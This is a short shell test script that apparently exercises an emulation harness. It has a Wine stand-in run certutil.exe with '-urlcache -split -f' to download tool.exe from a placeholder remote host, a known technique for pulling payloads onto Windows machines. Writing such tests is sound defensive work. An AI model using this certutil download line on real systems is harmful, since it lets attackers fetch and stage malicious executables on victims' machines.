#!/bin/sh
# A stand-in for Wine is told to run certutil as a downloader.
# Environment: see ../emulation.sh.
. "$(dirname "$0")/../emulation.sh"

stand_in wine64
inside "$stand_in" certutil.exe -urlcache -split -f "http://$remote/tool.exe" tool.exe </dev/null >/dev/null
